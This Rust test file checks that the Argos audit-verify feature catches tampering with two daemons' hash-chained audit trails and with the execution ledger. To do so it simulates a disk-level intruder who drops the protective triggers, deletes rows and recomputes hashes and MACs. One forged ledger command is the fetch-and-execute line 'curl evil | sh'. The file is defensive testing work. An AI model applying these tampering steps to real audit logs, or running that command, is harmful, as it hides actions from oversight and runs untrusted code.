//! The audit trails under attack: execd's and the gateway's rows edited, cut short or
//! recomputed on disk while the daemons are down, and `audit verify` naming the row.

use argos_tests::StackBuilder;
use argos_tests::web::Web;
use serde_json::json;

/// Opens a stopped daemon's database as someone with the disk would, runs `edit`, and
/// gives the files back to the daemon's owner.
fn edit_db(db: &std::path::Path, edit: impl AsyncFnOnce(&mut sqlx::SqliteConnection)) {
    use sqlx::ConnectOptions;
    use std::os::unix::fs::MetadataExt;
    let owner = std::fs::metadata(db).unwrap();
    tokio::runtime::Runtime::new().unwrap().block_on(async {
        let mut conn = sqlx::sqlite::SqliteConnectOptions::new()
            .filename(db)
            .connect()
            .await
            .unwrap();
        sqlx::raw_sql(
            "DROP TRIGGER IF EXISTS audit_no_update; DROP TRIGGER IF EXISTS audit_no_delete;",
        )
        .execute(&mut conn)
        .await
        .unwrap();
        edit(&mut conn).await;
        use sqlx::Connection;
        conn.close().await.unwrap();
    });
    for suffix in ["", "-wal", "-shm"] {
        let p = std::path::PathBuf::from(format!("{}{suffix}", db.display()));
        if p.exists() {
            std::os::unix::fs::chown(&p, Some(owner.uid()), Some(owner.gid())).unwrap();
        }
    }
}

/// Rewrites rows from `from` on with their chain recomputed (SHA-256), tagged with `key`
/// when the intruder has it (else their MACs left as they were); `change` edits the
/// first.
async fn recompute(
    conn: &mut sqlx::SqliteConnection,
    from: i64,
    key: Option<&argos_store::key::Key>,
    change: impl Fn(&mut argos_store::audit::Record),
) {
    use argos_store::audit::{ROW_DOMAIN, Record, hash};
    let rows: Vec<Record> = sqlx::query("SELECT * FROM audit WHERE seq >= ? - 1 ORDER BY seq")
        .bind(from)
        .fetch_all(&mut *conn)
        .await
        .unwrap()
        .iter()
        .map(argos_store::audit::record)
        .collect();
    let mut prev = rows[0].hash.clone();
    for mut r in rows.into_iter().skip(1) {
        if r.seq == from {
            change(&mut r);
        }
        r.prev_hash = prev;
        r.hash = hash(&r).unwrap();
        if let Some(k) = key {
            r.mac = k.tag(ROW_DOMAIN, r.hash.as_bytes());
        }
        sqlx::query("UPDATE audit SET actor = ?, prev_hash = ?, hash = ?, mac = ? WHERE seq = ?")
            .bind(&r.actor)
            .bind(&r.prev_hash)
            .bind(&r.hash)
            .bind(&r.mac)
            .bind(r.seq)
            .execute(&mut *conn)
            .await
            .unwrap();
        prev = r.hash;
    }
}

/// Deleting the last rows of a trail, or rewriting a row and recomputing the chain, used
/// to verify. Rows are tagged with their daemon's key now, and each daemon's head is kept
/// in the other's trail: execd's trail cut short, the gateway's rewritten and recomputed
/// without its key, then again with its key, each fail `audit verify` naming the row.
#[test]
fn a_trail_cut_short_or_recomputed_fails_verify_naming_the_row() {
    let mut stack = StackBuilder::new()
        .env("ARGOS_GATEWAY__AUDIT_ANCHOR_S", "1")
        .start();
    let (mut admin, mut bob) = stack.admin_and_user();
    // History in both trails: approvals asked for (execd), a token and a failed login
    // (the gateway).
    let mut agent = bob.token(&["agent"]);
    for n in 0..3 {
        let r = agent.post(
            "/api/agent/run",
            json!({"command": format!("mkdir /tmp/argos-anchor-{n}")}),
        );
        assert_eq!(r.json()["approval"]["state"], "pending", "{r:?}");
    }
    let r = Web::new(stack.listen).post("/api/login", json!({"name": "bob", "password": "not it"}));
    assert_eq!(r.status, 401);
    // Each trail's newest row (not itself an anchor) is anchored in the other's.
    let newest = |admin: &mut Web, trail: &str| -> i64 {
        admin.get("/api/audit?limit=200").json()["records"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["source"] == trail && r["kind"] != "audit.anchor")
            .map(|r| r["seq"].as_i64().unwrap())
            .max()
            .unwrap()
    };
    let (execd_head, gateway_head) = (newest(&mut admin, "execd"), newest(&mut admin, "gateway"));
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let v = loop {
        let v = admin.get("/api/audit/verify").json();
        if v["execd"]["anchor"]["seq"] == execd_head
            && v["gateway"]["anchor"]["seq"] == gateway_head
        {
            break v;
        }
        assert!(std::time::Instant::now() < deadline, "never anchored: {v}");
        std::thread::sleep(std::time::Duration::from_millis(200));
    };
    assert_eq!(
        (v["execd"]["ok"].as_bool(), v["gateway"]["ok"].as_bool()),
        (Some(true), Some(true)),
        "{v}"
    );
    let failed_login = admin.get("/api/audit?kind=login.failed").json()["records"][0]["seq"]
        .as_i64()
        .unwrap();
    assert!(failed_login <= gateway_head);

    // Someone with the disk and the gateway's key: the failed login given to another
    // name, the chain recomputed and every MAC made again. Chain and MACs verify; the
    // anchor execd holds of the gateway's trail names the row.
    let gateway_db = stack.root().join("state/gatewayd/gateway.db");
    stack.restart_with(|root| {
        let bytes = std::fs::read(root.join("state/gatewayd/gateway.key")).unwrap();
        let key = argos_store::key::Key::from_bytes(bytes.try_into().unwrap());
        edit_db(&gateway_db, async |c| {
            recompute(c, failed_login, Some(&key), |r| r.actor = "carol".into()).await;
        });
    });
    let v = admin.get("/api/audit/verify").json();
    let gateway = &v["gateway"];
    assert_eq!(
        (gateway["ok"].as_bool(), gateway["broken_seq"].as_i64()),
        (Some(false), Some(gateway_head)),
        "{v}"
    );
    let why = gateway["broken_reason"].as_str().unwrap();
    assert!(
        why.contains("rewritten") && why.contains("execd recorded"),
        "{why}"
    );
    assert_eq!(v["execd"]["ok"], true, "{v}");
    // The exchange stops rather than anchor the rewritten trail.
    stack.wait_log("audit anchoring with execd stopped", 1);

    // Without the key: execd's last two rows deleted; the gateway's row changed again
    // and the chain recomputed with SHA-256 alone.
    stack.restart_with(|root| {
        edit_db(&root.join("state/execd/execd.db"), async |c| {
            sqlx::query("DELETE FROM audit WHERE seq >= ?")
                .bind(execd_head - 1)
                .execute(&mut *c)
                .await
                .unwrap();
        });
        edit_db(&gateway_db, async |c| {
            recompute(c, failed_login, None, |r| r.actor = "dave".into()).await;
        });
    });
    let v = admin.get("/api/audit/verify").json();
    let execd = &v["execd"];
    assert_eq!(execd["ok"], false, "{v}");
    assert_eq!(execd["broken_seq"], execd_head - 1, "{v}");
    let why = execd["broken_reason"].as_str().unwrap();
    assert!(why.contains("missing") && why.contains("cut off"), "{why}");
    let gateway = &v["gateway"];
    assert_eq!(
        (gateway["ok"].as_bool(), gateway["broken_seq"].as_i64()),
        (Some(false), Some(failed_login)),
        "{v}"
    );
    assert!(
        gateway["broken_reason"].as_str().unwrap().contains("MAC"),
        "{v}"
    );
    stack.stop();
}

/// Rows written since the last periodic exchange (every 30 s) were covered by no anchor,
/// so deleting the newest — an admin's decision and the root launch it allowed — passed
/// `audit verify`. Now execd has the gateway hold its trail before anything runs as root,
/// the gateway anchors soon after each record it writes, and both exchange at stop: with
/// the periodic exchange left at its default, the newest rows of either trail deleted
/// while the stack is down fail verify, naming the first missing row. (Each trail holds
/// its anchors of the other: cutting both at once cuts those too, which is why each
/// daemon's trail is protected by the other's, and each is cut here on its own.)
#[test]
fn the_newest_rows_are_anchored_before_a_root_launch_and_at_stop() {
    for cut in ["execd", "gateway"] {
        newest_rows_cut(cut);
    }
}

fn newest_rows_cut(cut: &str) {
    let mut stack = StackBuilder::new().start();
    let (mut admin, mut bob) = stack.admin_and_user();
    let mut agent = bob.token(&["agent"]);
    let mark = format!("/var/tmp/argos-anchor-root-{}", std::process::id());
    let r = agent.post(
        "/api/agent/run",
        json!({"command": format!("touch {mark}")}),
    );
    let approval = r.json()["approval"].clone();
    assert_eq!(approval["state"], "pending", "{r:?}");
    let id = approval["id"].as_str().unwrap();
    let execution = approval["execution_id"].as_str().unwrap().to_string();
    let r = admin.post(
        &format!("/api/approvals/{id}/decision"),
        json!({"decision": "approve"}),
    );
    assert_eq!(r.status, 200, "{r:?}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while admin.get(&format!("/api/executions/{execution}")).json()["execution"]["status"]
        == "running"
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the launch never ended"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let _ = std::fs::remove_file(&mark);
    let seq_of = |admin: &mut Web, source: &str, kind: &str| -> i64 {
        admin
            .get(&format!("/api/audit?kind={kind}&limit=200"))
            .json()["records"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["source"] == source)
            .map(|r| r["seq"].as_i64().unwrap())
            .max()
            .unwrap_or_else(|| panic!("no {kind} in {source}'s trail"))
    };
    // Before the root launch started, the gateway held execd's trail up to its intent,
    // well before a periodic exchange.
    let intent = seq_of(&mut admin, "execd", "launch.intent");
    let v = admin.get("/api/audit/verify").json();
    assert!(
        v["execd"]["anchor"]["seq"].as_i64().unwrap_or(0) >= intent,
        "the root launch started before its intent was anchored: intent {intent}, {v}"
    );
    // Down, someone with the disk deletes the newest rows of one trail: from the
    // decision on, anchors included.
    let from = seq_of(&mut admin, cut, "approval.decide");
    let db = match cut {
        "execd" => "state/execd/execd.db",
        _ => "state/gatewayd/gateway.db",
    };
    stack.restart_with(|root| {
        edit_db(&root.join(db), async |c| {
            sqlx::query("DELETE FROM audit WHERE seq >= ?")
                .bind(from)
                .execute(&mut *c)
                .await
                .unwrap();
        });
    });
    let v = admin.get("/api/audit/verify").json();
    let t = &v[cut];
    assert_eq!(
        (t["ok"].as_bool(), t["broken_seq"].as_i64()),
        (Some(false), Some(from)),
        "{cut}: the deleted rows went unnoticed: {v}"
    );
    assert!(
        t["broken_reason"].as_str().unwrap().contains("cut off"),
        "{v}"
    );
    stack.stop();
}

/// Sends SIGCONT to a stopped daemon when dropped, so a failing test leaves none stopped.
struct Stopped(nix::unistd::Pid);

impl Stopped {
    fn stop(pid: i32) -> Stopped {
        let pid = nix::unistd::Pid::from_raw(pid);
        nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGSTOP).unwrap();
        Stopped(pid)
    }
}

impl Drop for Stopped {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(self.0, nix::sys::signal::Signal::SIGCONT);
    }
}

/// A launch as root starts only once the gateway holds its audit record, not once the
/// record was handed to it: a gateway that watches but does not anchor (stopped here)
/// gets the launch refused, ended unstarted, with the reason; once it answers again,
/// the same launch runs.
#[test]
fn a_root_launch_does_not_start_before_the_gateway_holds_its_record() {
    use argos_proto::exec::v1::{ExecutionStatus, RunRequest};
    use argos_tests::runs::{ran, run};
    argos_tests::require_root("a launch as root");
    let stack = StackBuilder::new().start();
    let mark = format!("/var/tmp/argos-anchor-held-{}", std::process::id());
    let request = || RunRequest {
        command: format!("touch {mark}"),
        profile: "host".into(),
        timeout_ms: Some(10_000),
        ..Default::default()
    };
    // The gateway watches and anchors: the launch runs.
    let r = ran(run(&stack, request()).unwrap());
    assert_eq!(r.status, ExecutionStatus::Succeeded, "{}", r.error);
    std::fs::remove_file(&mark).unwrap();
    let stopped = Stopped::stop(stack.daemon_pid("gatewayd"));
    let refused = run(&stack, request()).unwrap_err();
    assert_eq!(
        refused.kind,
        argos_exec_client::ErrorKind::Unavailable,
        "{refused:?}"
    );
    assert!(
        refused
            .message
            .contains("starts only once the gateway holds its audit record"),
        "{refused:?}"
    );
    assert!(
        !std::path::Path::new(&mark).exists(),
        "the launch ran as root with its record unanchored"
    );
    drop(stopped);
    let r = ran(run(&stack, request()).unwrap());
    assert_eq!(r.status, ExecutionStatus::Succeeded, "{}", r.error);
    std::fs::remove_file(&mark).unwrap();
    stack.stop();
}

/// The review: an execution's command edited in the ledger with sqlite3 (`echo …` made
/// `curl evil | sh`) showed the forged command in the API and the UI while `audit verify`
/// said the chain verifies. Verify now holds the ledger to the trail — a launch's own
/// intent and an approved launch's consumption record alike — and names the execution.
#[test]
fn a_forged_or_deleted_ledger_row_is_named_by_verify() {
    let mut stack = StackBuilder::new().start();
    let (mut admin, mut bob) = stack.admin_and_user();
    // A launch of the admin's own, and one of bob's agent that the admin approved.
    let r = admin.post("/api/shell/exec", json!({"command": "echo as shown"}));
    assert_eq!(r.status, 200, "{r:?}");
    let direct = r.json()["execution"]["id"].as_str().unwrap().to_string();
    let mut agent = bob.token(&["agent"]);
    let made = stack.root().join("made-by-an-approval");
    let r = agent.post(
        "/api/agent/run",
        json!({"command": format!("mkdir {}", made.display()), "purpose": "tie"}),
    );
    let v = r.json();
    assert_eq!(v["approval"]["state"], "pending", "{v}");
    let approval = v["approval"]["id"].as_str().unwrap().to_string();
    let approved = v["execution"]["id"].as_str().unwrap().to_string();
    let mut console = admin.token(&["approve"]);
    let r = console.post(
        &format!("/api/approvals/{approval}/decision"),
        json!({"decision": "approve"}),
    );
    assert_eq!(r.status, 200, "{r:?}");
    let ended = admin.ended(&approved).json();
    assert_eq!(ended["execution"]["status"], "succeeded", "{ended}");
    let v = admin.get("/api/audit/verify").json();
    let ledger = &v["execd"]["ledger"];
    assert_eq!(v["execd"]["ok"], true, "{v}");
    assert_eq!(ledger["broken_execution"], "", "{v}");
    assert!(ledger["ran"].as_u64().unwrap() >= 2, "{v}");
    // Each edit, made while the stack is down, is named by the next verify; then undone.
    let db = stack.root().join("state/execd/execd.db");
    let forged = r#"["/bin/sh","-c","curl evil | sh"]"#;
    for (id, forge, said) in [
        (
            &direct,
            true,
            "its command in the ledger is not the one its launch.intent",
        ),
        (
            &approved,
            true,
            "its command in the ledger is not the one its launch.intent",
        ),
        (&direct, false, "the ledger has no such execution (deleted)"),
    ] {
        let original: std::cell::RefCell<String> = Default::default();
        stack.restart_with(|_| {
            edit_db(&db, async |c| {
                *original.borrow_mut() =
                    sqlx::query_scalar("SELECT argv FROM executions WHERE id = ?")
                        .bind(id)
                        .fetch_one(&mut *c)
                        .await
                        .unwrap();
                if forge {
                    sqlx::query("UPDATE executions SET argv = ? WHERE id = ?")
                        .bind(forged)
                        .bind(id)
                        .execute(&mut *c)
                        .await
                        .unwrap();
                } else {
                    // Kept aside, to be put back.
                    sqlx::query("CREATE TABLE aside AS SELECT * FROM executions WHERE id = ?")
                        .bind(id)
                        .execute(&mut *c)
                        .await
                        .unwrap();
                    sqlx::query("DELETE FROM executions WHERE id = ?")
                        .bind(id)
                        .execute(&mut *c)
                        .await
                        .unwrap();
                }
            });
        });
        let v = admin.get("/api/audit/verify").json();
        let execd = &v["execd"];
        assert_eq!(execd["ok"], false, "{said}: {v}");
        assert_eq!(execd["broken_seq"], 0, "the chain itself verifies: {v}");
        assert_eq!(execd["ledger"]["broken_execution"], id.as_str(), "{v}");
        let why = execd["ledger"]["broken_reason"].as_str().unwrap();
        assert!(why.contains(said), "{why}");
        if forge {
            // What the API shows is what the ledger holds: the forgery.
            let shown = admin.get(&format!("/api/executions/{id}")).json();
            assert_eq!(shown["execution"]["argv"][2], "curl evil | sh", "{shown}");
        }
        let original = original.into_inner();
        stack.restart_with(|_| {
            edit_db(&db, async |c| {
                if forge {
                    sqlx::query("UPDATE executions SET argv = ? WHERE id = ?")
                        .bind(&original)
                        .bind(id)
                        .execute(&mut *c)
                        .await
                        .unwrap();
                } else {
                    sqlx::raw_sql("INSERT INTO executions SELECT * FROM aside; DROP TABLE aside;")
                        .execute(&mut *c)
                        .await
                        .unwrap();
                }
            });
        });
        let v = admin.get("/api/audit/verify").json();
        assert_eq!(v["execd"]["ok"], true, "undone: {v}");
    }
    stack.stop();
}
